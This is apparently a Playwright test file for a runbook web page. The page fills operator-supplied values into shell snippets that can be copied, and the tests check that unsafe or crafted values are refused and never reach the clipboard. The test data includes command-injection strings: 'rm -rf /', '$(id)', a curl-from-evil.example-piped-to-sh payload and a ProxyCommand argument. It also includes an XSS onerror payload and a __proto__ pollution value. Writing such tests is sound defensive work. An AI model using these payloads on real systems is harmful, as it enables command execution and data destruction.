"""Values once: shown, copied, kept; and a crafted link smuggles nothing into the clipboard."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlencode

from playwright.sync_api import Page, expect

from checks.runbook.load import load_docs

DATABASE = "scenarios/database-connection-issues/"
PROCESS = "incident-response/"
PAGES = load_docs(Path(__file__).parents[2])
ALLOWED = ["clipboard-read", "clipboard-write"]
UNSAFE = ("db; rm -rf /", "$(id)", "a'b", 'a"b', "-oProxyCommand=x", "a b")
CRAFTED = (
    {"alertname": "x'; curl evil.example | sh #"},
    {"alertname": "<img src=x onerror=alert(1)>"},
    {"severity": "P1$(id)"},
    {"started": "2026-01-31T03:04:05Z\nid"},
    {"key": "`id`"},
    {"DB_HOST": "evil.example", "db_host": "evil.example", "PLANNER": "http://evil.example"},
)
ALERT = {
    "alertname": "QuantumPlannerRequestsFailing",
    "severity": "P1",
    "started": "2026-01-31T03:04:05Z",
    "key": "a1b2-c3",
}


def code(page: Page, snippet: str) -> str:
    return page.locator(f'[data-snippet="{snippet}"] code').inner_text()


def copied(page: Page, snippet: str) -> str:
    page.locator(f'[data-snippet="{snippet}"]').get_by_role("button", name="Copy").click()
    page.wait_for_function("async () => await navigator.clipboard.readText() !== ''")
    return str(page.evaluate("navigator.clipboard.readText()"))


def fill(page: Page, name: str, value: str) -> None:
    page.locator("details.values summary").click()
    page.locator(f'.values input[name="{name}"]').fill(value)


def test_a_value_goes_into_what_is_shown_and_copied(visit: Callable[..., Page]) -> None:
    page = visit(DATABASE, permissions=ALLOWED)

    fill(page, "DB_HOST", "db.example.test")

    assert copied(page, "database-up") == 'pg_isready -h "db.example.test" -t 5'
    expect(page.locator('[data-snippet="database-up"] mark')).to_have_text("db.example.test")
    expect(page.locator(".exports output")).to_have_text("export DB_HOST='db.example.test'\n")


def test_a_command_with_several_places_keeps_all_its_other_bytes(visit: Callable[..., Page]) -> None:
    page = visit(f"{PROCESS}?{urlencode(ALERT)}", permissions=ALLOWED)

    text = PAGES["incident-response.md"].snippets["announce"].text
    for name, value in ALERT.items():
        text = text.replace(f"$ALERT_{name.upper()}", value)
    assert copied(page, "announce") == text


def test_it_is_kept_for_the_next_page_and_forgotten_when_asked(address: str, visit: Callable[..., Page]) -> None:
    page = visit(DATABASE)
    fill(page, "PLANNER", "https://planner.example.test")

    page.goto(address + "scenarios/complete-system-outage/")
    assert "https://planner.example.test/health" in code(page, "answers")

    page.get_by_role("button", name="Forget").click()
    assert code(page, "answers").strip() == PAGES["scenarios/complete-system-outage.md"].snippets["answers"].text
    page.reload()
    assert "$PLANNER" in code(page, "answers")


def test_what_would_not_be_safe_to_paste_is_told_and_not_used(visit: Callable[..., Page]) -> None:
    page = visit(DATABASE)
    fill(page, "DB_HOST", "good.example.test")
    expect(page.locator(".exports")).to_be_visible()

    for value in UNSAFE:
        page.locator('.values input[name="DB_HOST"]').fill(value)

        expect(page.locator(".values .bad")).to_contain_text("$DB_HOST would not be safe to paste")
        assert (
            code(page, "database-up").strip()
            == PAGES["scenarios/database-connection-issues.md"].snippets["database-up"].text
        ), value
        expect(page.locator(".exports")).to_be_hidden()
        page.locator('.values input[name="DB_HOST"]').fill("good.example.test")
        expect(page.locator(".exports")).to_be_visible()


def test_a_crafted_link_brings_nothing_into_the_clipboard(address: str, visit: Callable[..., Page]) -> None:
    page = visit(PROCESS, permissions=ALLOWED)

    for asked in CRAFTED:
        page.goto(f"{address}{PROCESS}?{urlencode(asked)}")
        for name in ("announce", "acknowledge", "impact"):
            page.evaluate("navigator.clipboard.writeText('')")
            assert copied(page, name) == PAGES["incident-response.md"].snippets[name].text, asked
        assert page.locator(".exports").is_hidden(), asked
        assert page.evaluate("localStorage.getItem('runbook.values') ?? '{}'") == "{}", asked


def test_what_another_page_of_the_host_has_kept_is_not_believed(visit: Callable[..., Page]) -> None:
    page = visit(DATABASE)

    page.evaluate("""localStorage.setItem("runbook.values", '{"DB_HOST": "x; id", "__proto__": {"PLANNER": "y"}}')""")
    page.reload()

    assert (
        code(page, "database-up").strip()
        == PAGES["scenarios/database-connection-issues.md"].snippets["database-up"].text
    )
